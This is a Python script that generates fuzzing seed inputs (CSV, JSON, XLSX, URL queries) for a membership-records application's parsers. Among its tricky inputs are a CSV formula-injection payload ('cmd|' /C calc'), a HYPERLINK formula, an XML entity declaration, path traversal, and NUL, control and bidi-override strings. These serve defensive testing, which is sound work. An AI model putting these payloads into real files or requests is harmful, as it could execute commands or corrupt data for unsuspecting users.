#!/usr/bin/env python3
"""Writes the seed corpus of the fuzz targets (fuzz/corpus/<target>/):
small valid and tricky inputs, a file each.  Run from the repository root
after changing it (the files are committed):

    python3 fuzz/mkcorpus.py [MKXLSX]

MKXLSX is the tests' workbook maker (build-dev/tests/mkxlsx): with it, the
xlsx and import corpora get real workbooks made from some of the CSV seeds;
without it the workbooks already in fuzz/corpus/xlsx are kept.  Inputs that
a fuzzing run found and that must stay (crashes fixed since: regressions)
are kept too: they are named regress-*.  Seeds of this script are named
seed-*.
"""
import os
import subprocess
import sys
import tempfile
import zipfile

ROOT = os.path.dirname(os.path.abspath(__file__))
CORPUS = os.path.join(ROOT, "corpus")

HEADER = ("full_name,gender,birth_date,ethnicity,citizen_id,admitted_on,"
          "official_on,status,org_code")
ROW1 = ("Nguyễn Thị Nhập,female,1990-01-02,Kinh,001090000123,"
        "2015-03-10,2016-03-10,official,CB-VTH")
ROW2 = ("Trần Văn Nhập,male,1988-05-06,Tày,001088000456,"
        "2020-07-01,,probationary,CB-VTH")

CSV = {
    "header-only": HEADER + "\r\n",
    "two-rows": HEADER + "\r\n" + ROW1 + "\r\n" + ROW2 + "\r\n",
    "bom": "\ufeff" + HEADER + "\n" + ROW1 + "\n",
    "semicolon": HEADER.replace(",", ";") + "\n" + ROW1.replace(",", ";"),
    "quoted": 'a,"b ""quoted""",c\n"line\nbreak",",",""\n',
    "unterminated": 'a,b\n"open,c\n',
    "cr-only": "a,b\rc,d\r",
    "empty-rows": "\n\n,,\na,b\n\n,\n",
    "vietnamese": "Họ và tên,Giới tính,Ngày sinh\nLê Thị Hoa,Nữ,01/02/1990\n",
    "decomposed": "Ho\u0323 te\u0302n,gioi\nNguye\u0302\u0303n,Nam\n",
    "formulas": ("full_name,job_title\n"
                 "A,=HYPERLINK(\"http://x\"&A1,\"b\")\n"
                 "B,'=1+1\nC,''=x\nD,+1+cmd|' /C calc'!A0\nE,-2\nF,@SUM(A1)\n"
                 "G,'abc\n"),
    "controls": "a,b\n\x01\x02,\x1b[31mred\x07\n\x7f,\u0085x\n",
    "bidi": "a,b\n\u202eevil,\u200bzero\n",
    "tabs": "a\tb,c\n d , e \n",
    "many-cols": ",".join("c%d" % i for i in range(300)) + "\n",
    "long-cell": "a\n" + "x" * 3000 + "\n",
    "nul": "a,b\n\x00,c\n",
    "lone-quote": '"\n',
    "quote-mid": 'a"b,c\n',
    "only-delims": ";;;;;,,,,\n",
    "utf16": "\ufeffa,b\n",  # written as UTF-16 below
    "crlf-in-quotes": 'a,b\r\n"x\r\ny",z\r\n',
    "trailing-quote": 'a,"b"c\n',
}
CSV_BYTES = {
    "cp1258": "Họ tên,Dân tộc\nNguyễn,Kinh\n",  # written as Windows-1258
    "latin1-bad": b"a,b\n\x81\x8d\x8f\x90,\x9d\n",
    "invalid-utf8": b"a,b\n\xc3\x28,\xe2\x82\n\xf0\x90\x80\n",
    "overlong": b"a\n\xc0\xaf\xe0\x80\xaf\n",
    "surrogate": b"a\n\xed\xa0\x80\n",
}

JSON = {
    "member": ('{"full_name":"Nguyễn Văn A","gender":"male",'
               '"birth_date":"1990-01-02","ethnicity":"Kinh",'
               '"citizen_id":"001090000123","admitted_on":"2015-03-10",'
               '"official_on":"2016-03-10","status":"official","org_id":3}'),
    "member-patch": '{"job_title":"Chuyên viên","phone":"0912 345 678"}',
    "member-nulls": '{"full_name":null,"org_id":null,"birth_date":""}',
    "member-types": ('{"full_name":12,"gender":true,"birth_date":[],'
                     '"org_id":"3","status":{},"email":1.5}'),
    "member-readonly": '{"id":5,"version":2,"state":"died","created_at":"x"}',
    "member-ethnicity-alias": '{"ethnicity":"kinh","religion":"Phat giao"}',
    "member-dates": ('{"birth_date":"2030-02-30","admitted_on":"1899-12-31",'
                     '"official_on":"2015-13-01","exempt_since":"20150101"}'),
    "org": ('{"kind":"cell","name":"Chi bộ 1","code":"CB-1","parent_id":2,'
            '"valid_from":"2020-01-01","doc_no":"12-QĐ/ĐU"}'),
    "org-root": '{"parent_id":null,"kind":"central","valid_to":""}',
    "org-bad-kind": '{"kind":"club","code":"a b","name":""}',
    "event": '{"kind":"moved","on":"2024-05-01","org_id":4,"note":"x"}',
    "event-record": '{"kind":"record_created","on":"","doc_no":null}',
    "officer": ('{"member_id":10,"position":"secretary",'
                '"started_on":"2020-01-01","ended_on":"2019-01-01"}'),
    "session": '{"username":"admin","password":"demo-admin-2026"}',
    "unknown-keys": '{"nope":1,"\\u0000":2,"":3}',
    "duplicate": '{"full_name":"a","full_name":"b"}',
    "deep": "[" * 40 + "]" * 40,
    "deep-object": '{"a":' * 33 + "1" + "}" * 33,
    "not-object": '[1,2,3]',
    "string": '"just a string"',
    "number": "123",
    "empty": "",
    "big-int": '{"org_id":99999999999999999999999}',
    "neg-int": '{"org_id":-1,"member_id":0}',
    "float": '{"org_id":3.0,"version":1e308}',
    "escapes": '{"full_name":"\\u0041\\u1ec7\\ud83d\\ude00\\n\\t\\u0007"}',
    "lone-surrogate": '{"full_name":"\\ud800x"}',
    "control": '{"doc_no":"A\\u001b[31m\\u0007"}',
    "bidi": '{"full_name":"abc\\u202edef","job_title":"\\u2066x"}',
    "truncated": '{"full_name":"abc',
    "trailing": '{"a":1} x',
    "long-name": '{"full_name":"' + "ă" * 300 + '"}',
    "en": '{"gender":"x"}\n',  # last byte odd: English replies
}
JSON_BYTES = {
    "invalid-utf8": b'{"full_name":"\xc3\x28","job_title":"ok"}',
    "nul": b'{"full_name":"a\x00b"}',
    "raw-control": b'{"full_name":"a\x01b"}',
}

QUERY = {
    "members": "/api/v1/members?q=Nguy%E1%BB%85n&sort=-name&limit=20",
    "members-filters": ("/api/v1/members?status=official&state=any&org=3&"
                        "ethnicity=Kinh&admitted_year=2015&cursor=abc"),
    "members-bad": "/api/v1/members?limit=-1&sort=x&status=&state=dead",
    "members-unknown": "/api/v1/members?nope=1&q=a&q=b",
    "members-big": "/api/v1/members?limit=99999999999999999999",
    "member-id": "/api/v1/members/12",
    "member-id-bad": "/api/v1/members/012",
    "member-nul": "/api/v1/members/1%00",
    "member-nul-raw": "/api/v1/members/1\x00/x",
    "member-ctl": "/api/v1/orgs/3%1b/stats",
    "member-del": "/api/v1/members/7f%7F",
    "orgs": "/api/v1/orgs?root=1&include_closed=true&limit=5",
    "orgs-bool": "/api/v1/orgs?include_closed=maybe",
    "org-stats": "/api/v1/orgs/3/stats",
    "org-officers": "/api/v1/orgs/3/officers?all=1",
    "audit": ("/api/v1/audit?member=1&from=2024-01-01&to=2024-02-30&"
              "action=member.view&user=admin&before=9&batch=1"),
    "audit-dates": "/api/v1/audit?from=01/02/2024&to=2024-1-1",
    "rules": "/api/v1/rules?on=2026-01-01&org=1",
    "import": "/api/v1/members/import?dry_run=true&token=x&file_name=a.csv",
    "export": "/api/v1/members/export?format=xlsx&headers=vi&status=official",
    "metrics": "/metrics?anything=goes",
    "unknown": "/api/v1/nothing/here",
    "root": "/",
    "dots": "/api/v1/../v1/members",
    "double-slash": "//api/v1//members",
    "encoded": "/api/v1/%6D%65mbers?%71=%",
    "plus": "/api/v1/members?q=a+b&q2=%2B",
    "utf8-bad": "/api/v1/members?q=%C3%28&ethnicity=%FF",
    "empty-keys": "/api/v1/members?&&=&a",
    "fragment": "/api/v1/members?q=1#frag",
    "if-match": '/api/v1/members/3\n"3"',
    "if-match-list": '/api/v1/members/3\nW/"1", "2",  "x"',
    "if-match-star": "/api/v1/orgs/3\n*",
    "if-match-bad": '/api/v1/orgs/3\n"unterminated',
    "if-match-big": '/api/v1/orgs/3\n"99999999999999999999"',
}

IMPORT = {
    "ok": CSV["two-rows"],
    "bom": CSV["bom"],
    "labels-vi": ("Họ và tên,Giới tính,Ngày sinh,Dân tộc,Số CCCD,"
                  "Ngày vào Đảng,Ngày chính thức,Trạng thái,Mã tổ chức\n"
                  "Lê Thị Hoa,Nữ,01/02/1990,Kinh,001090000123,10/03/2015,"
                  "10/03/2016,Chính thức,CB-VTH\n"),
    "aliases": ("Họ tên;Nam/Nữ;Sinh ngày;CCCD;org_id;stt;ghi chu\n"
                "A;Nam;1990;123;3;1;x\n"),
    "org-id": ("full_name,gender,birth_date,citizen_id,admitted_on,status,"
               "org_id\nA,male,1990-01-01,001090000123,2015-01-01,"
               "official,0\nB,male,1990-01-01,x,2015-01-01,official,1e3\n"),
    "unknown-columns": "full_name,shoe_size,,full_name\nA,42,,B\n",
    "missing-columns": "full_name\nA\n",
    "bad-cells": (HEADER + "\nA,x,2030-02-30,Klingon,12,tomorrow,,maybe,"
                  "\n,,,,,,,,\nB,male,1990-01-01,Kinh,1,2015-01-01,2014-01-01,"
                  "official,CB,extra\n"),
    "formulas": (HEADER + ",job_title\nA,male,1990-01-01,Kinh,001090000123,"
                 "2015-03-10,2016-03-10,official,CB,'=1+1\n"),
    "short-id": ("full_name,citizen_id\nA,1090000123\nB,01090000123\n"),
    "dates": ("full_name,birth_date,admitted_on\nA,1/2/1990,31-12-2015\n"
              "B,45000,1990.01.01\nC,29/02/2023,00/00/0000\n"),
}

MKXLSX_SOURCES = {
    "xlsx": ["two-rows", "vietnamese", "formulas", "quoted", "many-cols",
             "header-only"],
    "import": ["ok", "labels-vi", "short-id", "dates", "bad-cells"],
}


def write(target, name, data):
    d = os.path.join(CORPUS, target)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(d, "seed-" + name), "wb") as f:
        f.write(data)


def handmade_xlsx(path, shared, sheet, styles=None, workbook=None,
                  compression=zipfile.ZIP_DEFLATED):
    """A minimal workbook by hand: the parts a reader looks for.  Stored
    (not compressed) ones let the fuzzer's byte mutations reach the XML."""
    with zipfile.ZipFile(path, "w", compression) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.'
                   'openxmlformats.org/package/2006/content-types"/>')
        z.writestr("xl/workbook.xml", workbook or
                   '<?xml version="1.0"?><workbook><workbookPr/>'
                   '<sheets><sheet name="S" sheetId="1" r:id="rId1"/>'
                   '</sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels",
                   '<?xml version="1.0"?><Relationships><Relationship '
                   'Id="rId1" Target="worksheets/sheet1.xml"/>'
                   '</Relationships>')
        if shared is not None:
            z.writestr("xl/sharedStrings.xml", shared)
        if styles is not None:
            z.writestr("xl/styles.xml", styles)
        z.writestr("xl/worksheets/sheet1.xml", sheet)


def main():
    mkxlsx = sys.argv[1] if len(sys.argv) > 1 else None
    for target in ("csv", "xlsx", "json", "query", "import"):
        d = os.path.join(CORPUS, target)
        if os.path.isdir(d):
            for n in os.listdir(d):
                if n.startswith("seed-") and (mkxlsx or
                                             not n.endswith(".xlsx")):
                    os.remove(os.path.join(d, n))
    for n, v in CSV.items():
        if n == "utf16":
            v = v.encode("utf-16")
        write("csv", n, v)
    write("csv", "cp1258", CSV_BYTES["cp1258"].encode("cp1258", "replace"))
    for n, v in CSV_BYTES.items():
        if n != "cp1258":
            write("csv", n, v)
    for n, v in JSON.items():
        write("json", n, v)
    for n, v in JSON_BYTES.items():
        write("json", n, v)
    for n, v in QUERY.items():
        write("query", n, v)
    for n, v in IMPORT.items():
        write("import", n, v)
    write("import", "cp1258", IMPORT["labels-vi"].encode("cp1258", "replace"))

    with tempfile.TemporaryDirectory() as tmp:
        # Hand-made workbooks: inline strings, booleans, errors, a date
        # style, sparse cells, odd references.
        sheet = ('<?xml version="1.0"?><worksheet><sheetData>'
                 '<row r="1"><c r="A1" t="s"><v>0</v></c>'
                 '<c r="C1" t="inlineStr"><is><t>Inline</t></is></c></row>'
                 '<row r="3"><c r="A3" s="1"><v>45000</v></c>'
                 '<c r="B3" t="b"><v>1</v></c><c r="D3" t="e"><v>#N/A</v>'
                 '</c><c r="E3"><v>1.50</v></c><c r="F3" t="s"><v>9</v>'
                 '</c></row><row r="4"><c r="XFD4"><v>1</v></c><c r="A4">'
                 '<v>-1e308</v></c><c><v>7</v></c></row>'
                 '</sheetData></worksheet>')
        shared = ('<?xml version="1.0"?><sst><si><t>Họ tên</t></si>'
                  '<si><r><t>rich</t></r><r><t> text</t></r></si></sst>')
        styles = ('<?xml version="1.0"?><styleSheet><numFmts>'
                  '<numFmt numFmtId="164" formatCode="dd/mm/yyyy"/>'
                  '<numFmt numFmtId="165" formatCode="[h]:mm"/></numFmts>'
                  '<cellXfs><xf numFmtId="0"/><xf numFmtId="164"/>'
                  '<xf numFmtId="165"/><xf numFmtId="14"/></cellXfs>'
                  '</styleSheet>')
        made = {
            "hand.xlsx": (shared, sheet, styles, None),
            "hand-1904.xlsx": (shared, sheet, styles,
                               '<?xml version="1.0"?><workbook><workbookPr '
                               'date1904="1"/><sheets><sheet name="S" '
                               'sheetId="1" r:id="rId1"/></sheets>'
                               '</workbook>'),
            "hand-doctype.xlsx": (None, '<?xml version="1.0"?><!DOCTYPE x '
                                  '[<!ENTITY a "aaaa">]><worksheet>'
                                  '<sheetData><row><c t="inlineStr"><is>'
                                  '<t>&a;</t></is></c></row></sheetData>'
                                  '</worksheet>', None, None),
            "hand-empty.xlsx": (None, '<?xml version="1.0"?><worksheet>'
                                '<sheetData/></worksheet>', None, None),
            "hand-bad-xml.xlsx": ("<sst><si><t>x</si>", "<worksheet><sheet",
                                  None, None),
        }
        for name, (sh, sht, sty, wb) in made.items():
            p = os.path.join(tmp, name)
            handmade_xlsx(p, sh, sht, sty, wb)
            with open(p, "rb") as f:
                data = f.read()
            write("xlsx", name, data)
            if name == "hand.xlsx":
                write("import", name, data)
            p = os.path.join(tmp, "stored-" + name)
            handmade_xlsx(p, sh, sht, sty, wb, zipfile.ZIP_STORED)
            with open(p, "rb") as f:
                write("xlsx", "stored-" + name, f.read())
        with zipfile.ZipFile(os.path.join(tmp, "nosheet.xlsx"), "w") as z:
            z.writestr("hello.txt", "not a workbook")
        with open(os.path.join(tmp, "nosheet.xlsx"), "rb") as f:
            write("xlsx", "nosheet.xlsx", f.read())
        write("xlsx", "zip-magic-only", b"PK\x03\x04" + b"\x00" * 26)
        write("xlsx", "csv", CSV["two-rows"])

        if mkxlsx:
            for target, names in MKXLSX_SOURCES.items():
                for n in names:
                    src = CSV.get(n) if target == "xlsx" else IMPORT.get(n)
                    csvp = os.path.join(tmp, n + ".csv")
                    out = os.path.join(tmp, n + ".xlsx")
                    with open(csvp, "w", encoding="utf-8") as f:
                        f.write(src)
                    subprocess.run([mkxlsx, csvp, out], check=True)
                    with open(out, "rb") as f:
                        write(target, n + ".xlsx", f.read())


if __name__ == "__main__":
    main()
